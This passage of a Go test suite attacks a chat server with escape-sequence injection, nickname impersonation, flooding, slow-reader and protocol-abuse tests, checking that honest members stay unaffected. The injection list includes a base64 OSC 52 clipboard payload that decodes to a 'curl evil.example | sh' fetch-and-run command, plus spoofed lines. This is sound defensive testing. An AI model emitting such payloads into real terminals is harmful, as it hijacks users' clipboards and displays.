package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	gossh "golang.org/x/crypto/ssh"

	"chatd/internal/testproc"
)

// Adversarial tests: each attacks the real chatd binary while two honest
// members, alice and bob on the real openssl s_client, keep chatting, and
// checks that (a) their lines still arrive promptly and intact during the
// attack and (b) once the attack is over the server's goroutines return to
// what they were before it (read from /metrics), so nothing leaks.
// docs/SECURITY.md cites these tests by name.

const (
	// promptly bounds how long an honest line may take to arrive.
	promptly = 3 * time.Second
	// goroutineMargin is how many goroutines above the baseline count as
	// "back to normal" (a timer, the metrics connection's reader). A TLS
	// member costs 2 goroutines, so a larger margin could hide one.
	goroutineMargin = 1
	// settleTime bounds how long the server gets to free an attack's
	// goroutines once the attack is over.
	settleTime = 10 * time.Second
)

// arena is a chatd under attack, with its two honest members.
type arena struct {
	t          *testing.T
	s          *testproc.Chatd
	alice, bob *testproc.Process
	baseline   int // go_goroutines before the attack
	probes     int
	worst      time.Duration // slowest probe so far
}

// newArena starts chatd with SSH and metrics on, plus args, joins alice
// and bob with openssl s_client, checks that they can talk and records the
// goroutine baseline.
func newArena(t *testing.T, args ...string) *arena {
	t.Helper()
	requireOpenSSL(t)
	args = append([]string{"--ssh-addr", "127.0.0.1:0", "--metrics-addr", "127.0.0.1:0"}, args...)
	s := startChatd(t, t.TempDir(), args...)
	a := &arena{t: t, s: s}
	a.alice = s.JoinWithOpenSSL(t, "alice")
	a.bob = s.JoinWithOpenSSL(t, "bob")
	a.alice.Expect("*** bob joined")
	a.probe()
	a.baseline = a.stableGoroutines()
	t.Logf("goroutine baseline: %d", a.baseline)
	return a
}

// probe has alice say a unique line and checks that bob gets exactly
// "[hh:mm:ss] <alice> line" within promptly. It returns how long it took.
func (a *arena) probe() time.Duration {
	a.t.Helper()
	a.probes++
	text := fmt.Sprintf("honest probe %d %x", a.probes, rand.Uint64())
	mark := len(a.bob.Output())
	start := time.Now()
	a.alice.Send(text)
	line, ok := waitLine(a.bob, mark, "<alice> "+text, promptly)
	took := time.Since(start)
	a.worst = max(a.worst, took)
	switch {
	case !ok:
		a.t.Errorf("during the attack bob did not get alice's line %q within %v", text, promptly)
	case !regexp.MustCompile(`^\[\d\d:\d\d:\d\d\] <alice> ` + regexp.QuoteMeta(text) + `$`).MatchString(line):
		a.t.Errorf("bob got alice's line mangled: %q", line)
	}
	return took
}

// metrics returns the server's /metrics page.
func (a *arena) metrics() string {
	a.t.Helper()
	return httpGet(a.t, a.s.MetricsURL+"/metrics")
}

// metric returns one series' value, 0 if absent.
func (a *arena) metric(series string) float64 {
	a.t.Helper()
	v, _ := metric(a.metrics(), series)
	return v
}

func (a *arena) goroutines() int {
	a.t.Helper()
	v, ok := metric(a.metrics(), "go_goroutines")
	if !ok {
		a.t.Fatal("/metrics has no go_goroutines")
	}
	return int(v)
}

// stableGoroutines reads the goroutine count until two readings agree.
func (a *arena) stableGoroutines() int {
	a.t.Helper()
	last := a.goroutines()
	for range 20 {
		time.Sleep(100 * time.Millisecond)
		n := a.goroutines()
		if n == last {
			return n
		}
		last = n
	}
	return last
}

// checkGoroutinesSettle waits up to within for the server to free what the
// attack cost: its goroutines back to the baseline and no connection open
// but alice's and bob's. If it does not, it fails the test and has chatd
// print its goroutines' stacks (which ends chatd).
func (a *arena) checkGoroutinesSettle(within time.Duration) bool {
	a.t.Helper()
	ok, why := a.settle(within)
	if !ok {
		a.t.Error(why)
		a.dumpServer()
	}
	return ok
}

// settle is checkGoroutinesSettle without the failure: it reports whether
// the server settled, or what it still holds.
func (a *arena) settle(within time.Duration) (bool, string) {
	a.t.Helper()
	start := time.Now()
	for {
		page := a.metrics()
		n, _ := metric(page, "go_goroutines")
		tlsOpen, _ := metric(page, `chatd_connections_open{transport="tls"}`)
		sshOpen, _ := metric(page, `chatd_connections_open{transport="ssh"}`)
		if int(n) <= a.baseline+goroutineMargin && tlsOpen == 2 && sshOpen == 0 {
			a.t.Logf("goroutines back to %v (baseline %d) after %v; slowest honest line %v",
				n, a.baseline, time.Since(start).Round(time.Millisecond), a.worst.Round(time.Millisecond))
			return true, ""
		}
		if time.Since(start) > within {
			return false, fmt.Sprintf("the server did not free the attack's resources within %v: %v goroutines (%d before the attack, margin %d), "+
				"%v TLS connections open (want alice's and bob's, 2), %v SSH chat sessions open (want 0)",
				within, n, a.baseline, goroutineMargin, tlsOpen, sshOpen)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// waitTLSOpen waits until the server counts n open TLS connections.
func (a *arena) waitTLSOpen(n int) {
	a.t.Helper()
	deadline := time.Now().Add(testproc.Wait)
	for {
		open := a.metric(`chatd_connections_open{transport="tls"}`)
		if int(open) == n {
			return
		}
		if time.Now().After(deadline) {
			a.t.Fatalf("%v TLS connections open, want %d", open, n)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// dumpServer makes chatd print every goroutine's stack (SIGQUIT) and exit,
// so that a leak's failure shows what holds the goroutines; the stacks are
// in what "chatd printed" logs at the end of the failed test.
func (a *arena) dumpServer() {
	a.t.Helper()
	a.t.Log("chatd's goroutines follow in its output (SIGQUIT)")
	a.s.Signal(syscall.SIGQUIT)
	a.s.WaitExit()
}

// waitLine waits until p's output past mark holds a complete line that
// contains want, and returns that line.
func waitLine(p interface{ Output() string }, mark int, want string, within time.Duration) (string, bool) {
	deadline := time.Now().Add(within)
	for {
		out := p.Output()[mark:]
		if i := strings.Index(out, want); i >= 0 {
			start := strings.LastIndexByte(out[:i], '\n') + 1
			if j := strings.IndexByte(out[i:], '\n'); j >= 0 {
				return strings.TrimRight(out[start:i+j], "\r"), true
			}
		}
		if time.Now().After(deadline) {
			return "", false
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// tlsClientConfig trusts exactly chatd's certificate, as the printed
// openssl command does.
func tlsClientConfig(t *testing.T, s *testproc.Chatd) *tls.Config {
	t.Helper()
	pemBytes, err := os.ReadFile(s.CertFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pemBytes) {
		t.Fatalf("no certificate in %s", s.CertFile)
	}
	return &tls.Config{RootCAs: pool, ServerName: "localhost"}
}

// client is an attacker's raw TLS connection, driven line by line.
type client struct {
	t    *testing.T
	name string
	conn *tls.Conn
	r    *bufio.Reader

	mu   sync.Mutex
	got  []byte        // what the background reader read
	done chan struct{} // closed when the background reader ends
}

// dialClient connects over TLS with dialer (nil for the default) and
// completes the handshake.
func dialClient(t *testing.T, s *testproc.Chatd, name string, dialer *net.Dialer) *client {
	t.Helper()
	if dialer == nil {
		dialer = &net.Dialer{}
	}
	dialer.Timeout = 5 * time.Second
	conn, err := tls.DialWithDialer(dialer, "tcp", "127.0.0.1:"+s.Port, tlsClientConfig(t, s))
	if err != nil {
		t.Fatalf("%s: TLS dial: %v", name, err)
	}
	t.Cleanup(func() { conn.Close() })
	return &client{t: t, name: name, conn: conn, r: bufio.NewReader(conn)}
}

// joinClient connects and joins as nick.
func joinClient(t *testing.T, s *testproc.Chatd, nick string) *client {
	t.Helper()
	c := dialClient(t, s, nick, nil)
	c.join(nick)
	return c
}

// readUntil reads lines until one contains one of wants and returns it. It
// must not be used once drain has started.
func (c *client) readUntil(wants ...string) string {
	c.t.Helper()
	c.conn.SetReadDeadline(time.Now().Add(testproc.Wait))
	defer c.conn.SetReadDeadline(time.Time{})
	var seen []string
	for {
		line, err := c.r.ReadString('\n')
		if err != nil {
			c.t.Fatalf("%s: waiting for %q: %v; got %q", c.name, wants, err, seen)
		}
		line = strings.TrimRight(line, "\r\n")
		seen = append(seen, line)
		for _, want := range wants {
			if strings.Contains(line, want) {
				return line
			}
		}
	}
}

func (c *client) join(nick string) {
	c.t.Helper()
	c.readUntil("*** Choose a nickname")
	c.send(nick)
	c.readUntil("*** " + nick + " joined")
}

// send writes lines, each with a newline.
func (c *client) send(lines ...string) {
	c.t.Helper()
	var b []byte
	for _, l := range lines {
		b = append(append(b, l...), '\n')
	}
	c.conn.SetWriteDeadline(time.Now().Add(testproc.Wait))
	if _, err := c.conn.Write(b); err != nil {
		c.t.Fatalf("%s: write: %v", c.name, err)
	}
}

// drain reads everything the server sends in the background, so that the
// client is never a slow consumer.
func (c *client) drain() {
	c.done = make(chan struct{})
	go func() {
		defer close(c.done)
		buf := make([]byte, 32<<10)
		if n := c.r.Buffered(); n > 0 {
			b, _ := c.r.Peek(n)
			c.mu.Lock()
			c.got = append(c.got, b...)
			c.mu.Unlock()
		}
		for {
			n, err := c.conn.Read(buf)
			c.mu.Lock()
			c.got = append(c.got, buf[:n]...)
			c.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
}

// Output is what drain has read so far.
func (c *client) Output() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return string(c.got)
}

// closedByServer reports whether the drained connection ended within d.
func (c *client) closedByServer(d time.Duration) bool {
	select {
	case <-c.done:
		return true
	case <-time.After(d):
		return false
	}
}

// rawConn opens a plain TCP connection to port.
func rawConn(t *testing.T, port string) net.Conn {
	t.Helper()
	conn, err := net.DialTimeout("tcp", "127.0.0.1:"+port, 5*time.Second)
	if err != nil {
		t.Fatalf("dial %s: %v", port, err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

// readToClose reads conn until the server closes it or d passes; it returns
// what was read and whether the server closed it.
func readToClose(conn net.Conn, d time.Duration) ([]byte, bool) {
	conn.SetReadDeadline(time.Now().Add(d))
	var got []byte
	buf := make([]byte, 4096)
	for {
		n, err := conn.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			var ne net.Error
			return got, !(errors.As(err, &ne) && ne.Timeout())
		}
	}
}

// checkTerminalSafe fails the test if out, what a member's terminal was
// sent, holds anything that could drive a terminal: control bytes other
// than the newline ending each line, DEL, invalid UTF-8, C1 controls,
// bidirectional overrides or isolates, or line separators.
func checkTerminalSafe(t *testing.T, who, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s was sent invalid UTF-8", who)
	}
	for i, r := range out {
		bad := ""
		switch {
		case r == '\n':
		case r < 0x20:
			bad = "a C0 control"
		case r == 0x7f:
			bad = "DEL"
		case 0x80 <= r && r <= 0x9f:
			bad = "a C1 control"
		case 0x202a <= r && r <= 0x202e, 0x2066 <= r && r <= 0x2069:
			bad = "a bidirectional control"
		case r == 0x2028 || r == 0x2029:
			bad = "a line separator"
		}
		if bad != "" {
			start := max(0, i-40)
			t.Errorf("%s was sent %s (%U) at byte %d: %q", who, bad, r, i, out[start:min(len(out), i+40)])
			return
		}
	}
}

// TestAttackEscapeInjection: a member sends lines full of terminal escape
// sequences (SGR colours, cursor moves, screen clears, OSC 52 clipboard,
// OSC 0 title, OSC 8 links, DCS, APC, PM, device queries), C1 controls,
// bidirectional overrides and isolates, line separators, CR and LF in the
// middle of a line and invalid UTF-8, as chat, /me, /msg and a /quit
// reason. The honest terminal receives only printable text, each line
// starts with the attacker's own name as the server wrote it, and no line
// can pass for bob's.
func TestAttackEscapeInjection(t *testing.T) {
	t.Parallel()
	a := newArena(t, "--flood-rate", "100", "--flood-burst", "100")
	mallory := joinClient(t, a.s, "mallory")
	mallory.drain()
	a.alice.Expect("*** mallory joined")
	a.bob.Expect("*** mallory joined")
	mark, aliceMark := len(a.bob.Output()), len(a.alice.Output())

	chat := `^\[\d\d:\d\d:\d\d\] <mallory> `
	attacks := []struct{ send, prefix, want string }{
		{"\x1b[31mred\x1b[0m text [e1]", chat, "red text [e1]"},
		{"\x1b[2J\x1b[Hcleared \x1b[10;10Hmoved \x1b[1A\x1b[2Kup [e2]", chat, "cleared moved up [e2]"},
		{"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard [e3]", chat, "clipboard [e3]"},
		{"\x1b]0;pwned\x1b\\title [e4]", chat, "title [e4]"},
		{"\u009b31mc1 csi [e5]", chat, "c1 csi [e5]"},
		{"\u009d52;c;Zm9v\u009cc1 osc [e6]", chat, "c1 osc [e6]"},
		{"\u202eevil\u202c bidi [e7]", chat, "evil bidi [e7]"},
		{"hi\r<bob> fake [e8]", chat, "hi<bob> fake [e8]"},
		{"bad \xff\xfe\xfd utf8 [e9]", chat, "bad \uFFFD utf8 [e9]"},
		{"\x08\x08\x08\x08\x08[e10] backspaces\x7f", chat, "[e10] backspaces"},
		{"bell\x07 nul\x00 vt\x0b ff\x0c [e11]", chat, "bell nul vt ff [e11]"},
		{"\x1bP+q544e\x1b\\dcs \x1b_apc\x1b\\apc \x1b^pm\x1b\\pm [e12]", chat, "dcs apc pm [e12]"},
		{"line\u2028sep\u2029para [e13]", chat, "lineseppara [e13]"},
		{"\u2066iso\u2069late \u202dlro\u202c [e14]", chat, "isolate lro [e14]"},
		{"\x1b7\x1b8\x1bc reset [e15]", chat, " reset [e15]"},
		{"tab\there [e16]", chat, "tab here [e16]"},
		{"lone \x9b31m c1 byte [e17]", chat, "lone \uFFFD31m c1 byte [e17]"},
		{"\x1b[38;2;255;0;0m\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ [e18]", chat, "link [e18]"},
		{"/me \x1b[5mblinks\x1b[0m\r* bob fake [e19]", `^\[\d\d:\d\d:\d\d\] \* mallory `, "blinks* bob fake [e19]"},
		{"/msg bob \x1b]0;x\x07psst\r<alice> fake [e20]", `^\[\d\d:\d\d:\d\d\] \*mallory\* `, "psst<alice> fake [e20]"},
		{"\n<bob> newline fake [e21]", chat, "<bob> newline fake [e21]"},
		{"\x1b[6n\x1b[c\x1b[>c queries [e22]", chat, " queries [e22]"},
		{"\x1b[?1049h\x1b[?25l alt screen [e23]", chat, " alt screen [e23]"},
		{"\x1b]1337;File=:AAAA\x07 iterm [e24]", chat, " iterm [e24]"},
		{"\r\x1b[2K\r<bob> carriage [e25]", chat, "<bob> carriage [e25]"},
	}
	for i, at := range attacks {
		mallory.send(at.send)
		if i%8 == 0 {
			a.probe()
		}
	}
	mallory.send("/quit \x1b[2K\r<alice> I am leaving\u202e [e26]")
	leave, ok := waitLine(a.bob, mark, "[e26]", promptly)
	if !ok {
		t.Fatalf("bob never saw mallory leave; he saw:\n%s", a.bob.Output()[mark:])
	}
	if !regexp.MustCompile(`^\[\d\d:\d\d:\d\d\] \*\*\* mallory left \(quit: <alice> I am leaving \[e26\]\)$`).MatchString(leave) {
		t.Errorf("mallory's leave reached bob as %q", leave)
	}
	a.probe()

	got := a.bob.Output()[mark:]
	checkTerminalSafe(t, "bob", got)
	checkTerminalSafe(t, "alice", a.alice.Output()[aliceMark:])
	for _, at := range attacks {
		marker := at.want[strings.LastIndex(at.want, "["):]
		line, ok := waitLine(a.bob, mark, marker, time.Second)
		if !ok {
			t.Errorf("bob never got the line sent as %q", at.send)
			continue
		}
		if !regexp.MustCompile(at.prefix + regexp.QuoteMeta(at.want) + "$").MatchString(line) {
			t.Errorf("sent %q\nbob got  %q\nwant     %q", at.send, line, at.prefix+at.want)
		}
		if n := strings.Count(got, marker); n != 1 {
			t.Errorf("%s reached bob in %d lines, want 1", marker, n)
		}
	}
	// Every line bob got is one the server framed: a stamp, then a body that
	// starts with a name the server wrote. Nothing starts as bob.
	legit := regexp.MustCompile(`^\[\d\d:\d\d:\d\d\] (<(alice|mallory)> |\* mallory |\*mallory\* |\*\*\* )`)
	for line := range strings.Lines(got) {
		if !legit.MatchString(line) {
			t.Errorf("bob got a line the server did not frame: %q", line)
		}
	}
	if rejected := a.metric(`chatd_rejected_lines_total{reason="flood"}`); rejected != 0 {
		t.Errorf("%v lines were dropped for flooding; the test is meant to stay under the limit", rejected)
	}
	a.checkGoroutinesSettle(settleTime)
}

// TestAttackImpersonation: a member tries to take bob's name, or one that
// looks like it, at the nickname prompt (any case, with a backspace, a
// trailing space, angle brackets, a zero-width space, an escape sequence,
// or too long) and with /nick; an SSH user named BOB tries too. Every
// attempt is refused with an explanation, and bob's name is never taken.
func TestAttackImpersonation(t *testing.T) {
	t.Parallel()
	requireSSH(t)
	a := newArena(t)
	mark := len(a.bob.Output())
	mallory := dialClient(t, a.s, "mallory", nil)
	mallory.readUntil("*** Choose a nickname")
	attempts := []struct{ nick, want string }{
		{"bob", `!!! nickname taken: "bob" is already in use`},
		{"BOB", `!!! nickname taken: "BOB" is already in use`},
		{"bOb", `!!! nickname taken: "bOb" is already in use`},
		{"b\x08ob", `!!! nickname taken: "bob" is already in use`},
		{"bob ", `!!! nickname taken: "bob" is already in use`},
		{"<bob>", `!!! invalid nickname: "<" is not allowed; use 1 to 24 characters`},
		{"bob\u200b", `!!! nickname taken: "bob" is already in use`}, // the invisible space is cleaned away
		{strings.Repeat("b", 25), `!!! invalid nickname: it is 25 characters long; use 1 to 24 characters`},
		{"\x1b[1mbob\x1b[22m", `!!! nickname taken: "bob" is already in use`},
	}
	for _, at := range attempts {
		mallory.send(at.nick)
		got := mallory.readUntil("!!! ", " joined")
		if strings.Contains(got, " joined") {
			t.Fatalf("nickname %q was accepted: %q", at.nick, got)
		}
		if !strings.HasPrefix(got, at.want) {
			t.Errorf("nickname %q: got %q, want %q", at.nick, got, at.want)
		}
		mallory.readUntil("*** Choose a nickname")
	}
	mallory.send("mallory")
	mallory.readUntil("*** mallory joined")
	a.probe()

	renames := []struct{ line, want string }{
		{"/nick BOB", `!!! nickname taken: "BOB" is already in use`},
		{"/nick b\x08ob", `!!! nickname taken: "bob" is already in use`},
		{"/nick bob\u200b", `!!! nickname taken: "bob" is already in use`},
		{"/nick <bob>", `!!! invalid nickname: "<" is not allowed`},
	}
	for _, at := range renames {
		mallory.send(at.line)
		if got := mallory.readUntil("!!! ", " is now known as "); !strings.Contains(got, at.want) {
			t.Errorf("%q: got %q, want %q", at.line, got, at.want)
		}
	}

	// Over SSH the user name is the nickname: BOB is asked for another.
	sshArgv := sshArgs(t, a.s, "BOB")
	other := testproc.StartScreen(t, "ssh BOB", 100, 30, sshArgv...)
	screen := other.WaitFor(`"BOB" is already in use`)
	if strings.Contains(screen, "· BOB") || strings.Contains(a.bob.Output()[mark:], "BOB joined") {
		t.Errorf("the SSH user BOB got into the room; its screen:\n%s", screen)
	}
	a.probe()
	other.Type("\x03") // Ctrl+C leaves the prompt
	other.WaitExit()

	a.alice.Send("/who")
	a.alice.Expect("*** 3 members: alice, bob, mallory")
	got := a.bob.Output()[mark:]
	for line := range strings.Lines(got) {
		if strings.Contains(line, " joined") && !strings.Contains(line, "*** mallory joined") ||
			strings.Contains(line, "is now known as") {
			t.Errorf("bob saw someone take a name: %q", line)
		}
	}
	checkTerminalSafe(t, "mallory", mallory.Output())
	mallory.conn.Close()
	a.bob.Expect("*** mallory left")
	a.checkGoroutinesSettle(settleTime)
}

// TestAttackFlood: a member sends lines as fast as it can, without end.
// The first few pass, 64 wait their turn, then it is told how many lines
// were dropped and disconnected for flooding once more than 16 queues'
// worth (1,024 lines) were dropped, about a second at 1,000 lines a
// second; honest lines keep arriving promptly throughout.
func TestAttackFlood(t *testing.T) {
	t.Parallel()
	a := newArena(t) // default limits: 10 lines at once, 2/s, a queue of 64, kicked after 20 turns of a full queue
	mallory := joinClient(t, a.s, "mallory")
	mallory.drain()
	a.bob.Expect("*** mallory joined")
	mark := len(a.bob.Output())

	var flood bytes.Buffer
	for i := range 100 {
		fmt.Fprintf(&flood, "flood line %d\n", i)
	}
	go func() {
		// Until the server disconnects mallory: then a write fails.
		for !mallory.closedByServer(100 * time.Millisecond) { // 1000 lines a second: far above the rate, cheap to read
			mallory.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
			if _, err := mallory.conn.Write(flood.Bytes()); err != nil {
				return
			}
		}
	}()
	deadline := time.Now().Add(20 * time.Second) // about a second, on a busy machine
	for !strings.Contains(a.bob.Output()[mark:], "*** mallory left (flooding)") && time.Now().Before(deadline) {
		a.probe()
	}
	if _, ok := waitLine(a.bob, mark, "*** mallory left (flooding)", promptly); !ok {
		t.Errorf("bob did not see mallory disconnected for flooding; he saw:\n%s", a.bob.Output()[mark:])
	}
	if !mallory.closedByServer(5 * time.Second) {
		t.Error("the server kept the flooder's connection open")
	}
	if out := mallory.Output(); strings.Count(out, "!!! ") != 2 || !strings.Contains(out, " lines dropped: at most 64 lines wait their turn; paste less at once") {
		t.Errorf("mallory was not told once how many lines were dropped; it got:\n%s", out)
	}
	if n := strings.Count(a.bob.Output()[mark:], "<mallory> flood line"); n < 10 || n > 16 {
		t.Errorf("bob got %d of mallory's flood lines, want the burst of 10 and the few that went out of the full queue before the 1,024th drop", n)
	}
	if v := a.metric(`chatd_leaves_total{reason="flooding"}`); v != 1 {
		t.Errorf(`chatd_leaves_total{reason="flooding"} = %v, want 1`, v)
	}
	if v := a.metric(`chatd_rejected_lines_total{reason="flood"}`); v < 20 {
		t.Errorf(`chatd_rejected_lines_total{reason="flood"} = %v, want at least 20`, v)
	}
	a.probe()
	a.checkGoroutinesSettle(settleTime)
}

// smallReceiveBuffer makes a dialer whose sockets advertise a small TCP
// window, as a client that reads slowly would.
func smallReceiveBuffer() *net.Dialer {
	return &net.Dialer{Control: func(_, _ string, rc syscall.RawConn) error {
		var serr error
		err := rc.Control(func(fd uintptr) {
			serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096)
		})
		return errors.Join(err, serr)
	}}
}

// floodUntilDropped joins a member "firehose" that sends size-byte lines at
// perSecond (maxLines at most) until victim is dropped as a slow consumer or
// limit passes, while honest lines must keep arriving promptly. It returns
// the firehose and whether the victim was dropped.
//
// The firehose stays at most hoseLead lines ahead of what alice and bob
// have been shown. They read, but on a busy machine their openssl may not
// keep up with a fixed rate: they would fall behind, their probes would
// measure that rather than what the victim costs them, and the room would
// drop them as slow consumers too. Paced by them, the flood is as fast as
// honest readers on this machine can take, and the victim still falls
// behind, as it reads nothing.
func (a *arena) floodUntilDropped(victim string, size, perSecond, maxLines int, limit time.Duration) (*client, bool) {
	a.t.Helper()
	hose := joinClient(a.t, a.s, "firehose")
	hose.drain()
	a.bob.Expect("*** firehose joined")
	mark := len(a.bob.Output())
	stop := make(chan struct{})
	sent := pacedFirehose(hose, size, perSecond, maxLines, stop, func(n int) bool {
		shown := min(lastHoseLine(a.alice.Tail(2*size+64)), lastHoseLine(a.bob.Tail(2*size+64)))
		return n-hoseLead <= shown
	})
	start := time.Now()
	dropped := false
	for !dropped && time.Since(start) < limit {
		a.probe() // every honest line arrives promptly
		_, dropped = waitLine(a.bob, mark, "*** "+victim+" left (slow consumer)", 300*time.Millisecond)
	}
	close(stop)
	n := <-sent
	a.t.Logf("firehose sent %d lines (%d KiB) before %s was dropped after %v", n, n*(size+1)>>10, victim, time.Since(start).Round(time.Millisecond))
	return hose, dropped
}

// hoseLead is how many lines the firehose of floodUntilDropped may be
// ahead of what alice and bob have been shown: well within the smallest
// --outbox the tests use (64), so that pacing never makes them overflow it.
const hoseLead = 32

// hoseLineRE matches the start of a firehose line as a member is shown it,
// with its number.
var hoseLineRE = regexp.MustCompile(`<firehose> (\d{6}) `)

// lastHoseLine returns the number of the last firehose line in out, or -1.
func lastHoseLine(out string) int {
	all := hoseLineRE.FindAllStringSubmatch(out, -1)
	if len(all) == 0 {
		return -1
	}
	n, _ := strconv.Atoi(all[len(all)-1][1])
	return n
}

// pacedFirehose sends size-byte lines from c until stop is closed, at most
// maxLines, pacing itself to about perSecond lines a second and, when mayGo
// is not nil, sending line n only once mayGo(n) says so, polling it until
// then. It reports how many it sent on the returned channel.
func pacedFirehose(c *client, size, perSecond, maxLines int, stop <-chan struct{}, mayGo func(n int) bool) <-chan int {
	sent := make(chan int, 1)
	go func() {
		n := 0
		defer func() { sent <- n }()
		const batch = 10
		tick := time.NewTicker(time.Second * batch / time.Duration(perSecond))
		defer tick.Stop()
		alphabet := "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 "
		var b []byte
		for n < maxLines {
			for mayGo != nil && !mayGo(n) {
				select {
				case <-stop:
					return
				case <-time.After(5 * time.Millisecond):
				}
			}
			b = b[:0]
			for range batch {
				start := len(b)
				b = fmt.Appendf(b, "%06d ", n)
				for i := 0; len(b)-start < size; i++ {
					b = append(b, alphabet[(n*7+i)%len(alphabet)])
				}
				b = append(b, '\n')
				n++
			}
			c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
			if _, err := c.conn.Write(b); err != nil {
				return
			}
			select {
			case <-stop:
				return
			case <-tick.C:
			}
		}
	}()
	return sent
}

// TestAttackSlowReaderTLS: a member joins over TLS with a tiny receive
// window and never reads, while another member floods the room with 1.5 KiB
// lines. Its queue fills and it skips events; once the server's write to
// it has made no progress for --write-timeout, it is dropped as a slow
// consumer and all its goroutines are freed, although the client never
// closes its side. Honest lines arrive promptly throughout.
func TestAttackSlowReaderTLS(t *testing.T) {
	t.Parallel()
	a := newArena(t, "--outbox", "64", "--history", "10", "--flood-rate", "100000", "--flood-burst", "100000",
		"--write-timeout", "3s")
	slow := dialClient(t, a.s, "slowpoke", smallReceiveBuffer())
	slow.join("slowpoke") // and never read again
	hose, dropped := a.floodUntilDropped("slowpoke", 1536, 2000, 40000, 30*time.Second)
	if !dropped {
		t.Fatalf("slowpoke was not dropped as a slow consumer within 30s")
	}
	for range 2 {
		a.probe()
	}
	if v := a.metric(`chatd_leaves_total{reason="slow consumer"}`); v != 1 {
		t.Errorf(`chatd_leaves_total{reason="slow consumer"} = %v, want 1 (only slowpoke)`, v)
	}
	hose.conn.Close()
	// slowpoke is still connected and still not reading: the server must
	// free it by itself within its write timeout (3s) and linger (2s).
	a.checkGoroutinesSettle(settleTime)
}

// TestAttackEndlessLine: a member sends a line over the limit (3000 bytes)
// and is told so but stays; then it sends 1 MiB without a newline and is
// disconnected with an explanation. The server never buffers more than
// --line-buffer of it.
func TestAttackEndlessLine(t *testing.T) {
	t.Parallel()
	a := newArena(t)
	mallory := joinClient(t, a.s, "mallory")
	mallory.drain()
	a.bob.Expect("*** mallory joined")
	mark := len(a.bob.Output())

	mallory.send(strings.Repeat("x", 3000))
	if line, ok := waitLine(mallory, 0, "!!! line too long", promptly); !ok {
		t.Errorf("a 3000-byte line was not refused; mallory got:\n%s", mallory.Output())
	} else if !strings.HasSuffix(line, "!!! line too long (3000 bytes, the limit is 2048); it was not sent") {
		t.Errorf("refusal %q", line)
	}
	mallory.send("still here after the long line")
	if _, ok := waitLine(a.bob, mark, "<mallory> still here after the long line", promptly); !ok {
		t.Error("mallory was not kept after a too-long line")
	}
	if strings.Contains(a.bob.Output()[mark:], "xxxxxxxxxx") {
		t.Error("part of the too-long line reached bob")
	}

	go func() {
		mallory.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
		mallory.conn.Write(bytes.Repeat([]byte("A"), 1<<20)) // fails once the server closes
	}()
	for range 2 {
		a.probe()
	}
	if _, ok := waitLine(mallory, 0, "!!! disconnected: sent too much without a newline", promptly); !ok {
		t.Errorf("mallory was not told why it was disconnected; it got:\n%s", mallory.Output())
	}
	if !mallory.closedByServer(5 * time.Second) {
		t.Error("the server kept the connection open")
	}
	if _, ok := waitLine(a.bob, mark, "*** mallory left (sent too much without a newline)", promptly); !ok {
		t.Errorf("bob did not see mallory leave; he saw:\n%s", a.bob.Output()[mark:])
	}
	if strings.Contains(a.bob.Output()[mark:], "AAAAAAAAAA") {
		t.Error("part of the endless line reached bob")
	}
	a.probe()
	a.checkGoroutinesSettle(settleTime)
}

// TestAttackProtocolAbuse: the TLS port is sent plain text, an HTTP
// request, random bytes, a TLS record of garbage, a TLS 1.0/1.1-only hello,
// a TLS 1.2 CBC-only hello, 50 connections that send nothing, and a client
// that completes TLS but never names itself. Each is answered (a plain-text
// or HTTP 400 hint where that helps) and closed within the timeouts, the
// failures are counted by reason in /metrics, and honest chat goes on.
func TestAttackProtocolAbuse(t *testing.T) {
	t.Parallel()
	a := newArena(t, "--handshake-timeout", "1s", "--nick-timeout", "1s",
		"--max-conns-per-ip", "200", "--conn-burst-per-ip", "200", "--conn-rate-per-ip", "100")

	t.Run("plaintext", func(t *testing.T) {
		c := rawConn(t, a.s.Port)
		io.WriteString(c, "hello chatd, let me in\n")
		got, closed := readToClose(c, 5*time.Second)
		if !closed || !strings.HasPrefix(string(got), "This is chatd's TLS port: plain text and HTTP are not spoken here.") {
			t.Errorf("closed %v, got %q", closed, got)
		}
	})
	t.Run("http", func(t *testing.T) {
		c := rawConn(t, a.s.Port)
		io.WriteString(c, "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
		got, closed := readToClose(c, 5*time.Second)
		if !closed || !strings.HasPrefix(string(got), "HTTP/1.0 400 Bad Request\r\n") || !strings.Contains(string(got), "openssl s_client") {
			t.Errorf("closed %v, got %q", closed, got)
		}
	})
	t.Run("garbage", func(t *testing.T) {
		rng := rand.New(rand.NewPCG(1, 2))
		junk := make([]byte, 4096)
		for i := range junk {
			junk[i] = byte(rng.UintN(256))
		}
		junk[0] = 0x00 // not a TLS record type
		c := rawConn(t, a.s.Port)
		c.Write(junk)
		if _, closed := readToClose(c, 5*time.Second); !closed {
			t.Error("random bytes: connection left open")
		}
		// A TLS handshake record header with garbage inside.
		record := append([]byte{0x16, 0x03, 0x01, 0x00, 0x80}, junk[1:0x81]...)
		c = rawConn(t, a.s.Port)
		c.Write(record)
		if got, closed := readToClose(c, 5*time.Second); !closed || len(got) > 64 {
			t.Errorf("garbage record: closed %v after %d bytes (want a short alert at most)", closed, len(got))
		}
	})
	t.Run("tls-1.0-1.1", func(t *testing.T) {
		cfg := tlsClientConfig(t, a.s)
